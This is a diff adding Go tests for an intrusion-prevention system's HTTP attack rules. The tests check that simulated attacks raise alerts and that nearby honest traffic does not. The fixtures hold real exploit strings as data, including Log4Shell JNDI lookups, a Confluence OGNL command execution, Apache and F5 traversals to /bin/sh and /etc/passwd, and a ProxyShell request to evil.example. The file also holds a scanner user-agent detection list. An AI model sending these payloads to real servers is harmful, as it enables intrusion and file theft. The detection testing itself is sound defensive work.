@@ -1,0 +1,142 @@
+package rules_test
+
+import (
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/herd-ips/herd/internal/rules"
+)
+
+// The attack-class scenarios of http-attacks.yaml: each attack alerts, and
+// the honest request nearest to it does not.
+func TestHTTPAttackClasses(t *testing.T) {
+	browser := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+	one := func(method, path string, status uint16, ua string) []timed {
+		return []timed{{0, httpReq(method, path, status, ua)}}
+	}
+	seq := func(n int, step time.Duration, f func(i int) (string, string, uint16)) []timed {
+		out := make([]timed, n)
+		for i := range out {
+			m, p, s := f(i)
+			out[i] = timed{time.Duration(i) * step, httpReq(m, p, s, browser)}
+		}
+		return out
+	}
+	cve := []string{"http-cve-probe"}
+	cases := []struct {
+		name string
+		evs  []timed
+		want []string
+	}{
+		{"log4shell in the path", one("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%3A1389%2Fa%7D", 404, browser), cve},
+		{"log4shell disguised", one("GET", "/${${lower:j}ndi:${lower:l}dap://x/a}", 400, browser), cve},
+		{"log4shell in the user agent", one("GET", "/", 200, "${jndi:ldap://192.0.2.66/a}"), []string{"http-cve-probe-header"}},
+		{"spring4shell", one("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 200, browser), cve},
+		{"confluence ognl", one("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", 302, browser), cve},
+		{"apache CVE-2021-41773", one("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, browser), []string{"http-cve-probe"}},
+		{"apache CVE-2021-42013", one("GET", "/icons/.%%32%65/.%%32%65/etc/passwd", 400, browser), cve},
+		{"phpunit eval-stdin", one("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, browser), cve},
+		{"thinkphp", one("GET", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x`, 200, browser), cve},
+		{"fortinet", one("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, browser), cve},
+		{"f5", one("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404, browser), cve},
+		{"citrix", one("GET", "/vpn/../vpns/cfg/smb.conf", 404, browser), cve},
+		{"exchange proxyshell", one("GET", "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example", 404, browser), cve},
+		{"wordpress file manager", one("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 404, browser), cve},
+		{"w00tw00t", one("GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400, ""), cve},
+		{"a template's unexpanded variable", one("GET", "/blog/${post.slug}", 404, browser), nil},
+		{"exploit spray: one router exploit fifty times", every(50, 2*time.Second, httpReq("POST", "/boaform/admin/formLogin", 404, browser)), []string{"http-exploit-spray"}},
+		{"exploit spray: three tries stay below", every(3, 2*time.Second, httpReq("POST", "/boaform/admin/formLogin", 404, browser)), nil},
+		{"webdav probing on a plain site", seq(4, time.Second, func(i int) (string, string, uint16) {
+			return []string{"PUT", "PROPFIND", "DELETE", "MKCOL"}[i], "/test" + strconv.Itoa(i) + ".txt", 405
+		}), []string{"http-webdav-probing"}},
+		{"a WebDAV client on a WebDAV server", seq(40, 100*time.Millisecond, func(i int) (string, string, uint16) {
+			return []string{"PROPFIND", "PUT", "DELETE", "MOVE"}[i%4], "/dav/f" + strconv.Itoa(i), []uint16{207, 201, 404, 412}[i%4]
+		}), nil},
+		{"open proxy: absolute URIs", every(2, time.Second, httpReq("GET", "http://www.example.com/", 200, browser)), []string{"http-open-proxy-probe"}},
+		{"open proxy: CONNECT", every(2, time.Second, httpReq("CONNECT", "www.example.com:443", 400, browser)), []string{"http-open-proxy-probe"}},
+		{"malformed request flood", every(21, 200*time.Millisecond, httpReq("", `\x16\x03\x01`, 400, "")), []string{"http-bad-request-flood"}},
+		{"414 flood", seq(21, 200*time.Millisecond, func(i int) (string, string, uint16) {
+			return "GET", "/?" + strings.Repeat("A", 20), 414
+		}), []string{"http-bad-request-flood"}},
+		{"an oversized cookie, a few reloads", every(10, 2*time.Second, httpReq("GET", "/", 400, browser)), nil},
+		{"403 flood", every(41, 100*time.Millisecond, httpReq("GET", "/admin/", 403, browser)), []string{"http-forbidden-flood"}},
+		{"request flood: 100 a second for 80 seconds", every(8000, 10*time.Millisecond, httpReq("GET", "/logo.png", 200, browser)), []string{"http-request-flood"}},
+		{"50 requests a second for a minute stay below", every(3000, 20*time.Millisecond, httpReq("GET", "/logo.png", 200, browser)), nil},
+		{"wordpress REST user enumeration", seq(3, time.Second, func(i int) (string, string, uint16) {
+			return "GET", []string{"/wp-json/wp/v2/users", "/wp-json/wp/v2/users/1", "/?rest_route=/wp/v2/users/2"}[i], 200
+		}), []string{"http-wordpress-rest-user-enum"}},
+		{"the block editor asking for its user", every(10, 5*time.Second, httpReq("GET", "/wp-json/wp/v2/users/me?context=edit", 200, browser)), nil},
+		{"censys", every(2, 10*time.Second, httpReq("GET", "/", 200, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)")), []string{"http-bad-user-agent"}},
+		{"l9scan", every(2, 10*time.Second, httpReq("GET", "/.git/config", 404, "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)")), []string{"http-bad-user-agent"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got := pourDefaults(t, c.evs)
+			// Only the scenario under test is asserted on attacks: a probe
+			// may rightly trip others too (path traversal, probing).
+			if c.want == nil {
+				if len(got) > 0 {
+					t.Errorf("alerts from %v on honest traffic", got)
+				}
+				return
+			}
+			for _, w := range c.want {
+				if !slices.Contains(got, w) {
+					t.Errorf("alerts from %v, want %s among them", got, w)
+				}
+			}
+		})
+	}
+}
+
+// TestScannerUserAgentsNeverNameABrowser hunts the whole class of
+// user-agent needles that would match a browser: no needle of a default
+// scenario may occur in a browser's or a crawler's user agent, nor be a
+// browser engine's or a platform's name alone.
+func TestScannerUserAgentsNeverNameABrowser(t *testing.T) {
+	honest := []string{
+		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
+		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
+		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
+		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
+		"Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.16",
+		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+		"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
+		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+		"curl/8.5.0", "Wget/1.21.4", "kube-probe/1.31", "Go-http-client/2.0", "python-requests/2.32.3",
+		"Mozilla/5.0 (Linux) mirall/3.14.3 (Nextcloud, ubuntu-6.8.0)", "davfs2/1.7.0 neon/0.32.5",
+	}
+	engines := []string{"mozilla", "gecko", "applewebkit", "webkit", "khtml", "like gecko", "chrome", "safari", "firefox",
+		"trident", "presto", "blink", "edg", "opera", "windows", "linux", "android", "iphone", "macintosh", "compatible", "mobile"}
+	set, err := rules.Defaults()
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, s := range set.Scenarios {
+		for _, needle := range s.Filter.UserAgentContains {
+			n++
+			nl := strings.ToLower(needle)
+			for _, e := range engines {
+				if strings.TrimSpace(strings.Trim(nl, "/;()")) == e {
+					t.Errorf("%s: needle %q is a browser engine's or platform's name alone", s.Name, needle)
+				}
+			}
+			for _, ua := range honest {
+				if strings.Contains(strings.ToLower(ua), nl) {
+					t.Errorf("%s: needle %q matches the honest user agent %q", s.Name, needle, ua)
+				}
+			}
+		}
+	}
+	if n < 50 {
+		t.Fatalf("only %d user-agent needles in the defaults", n)
+	}
+}
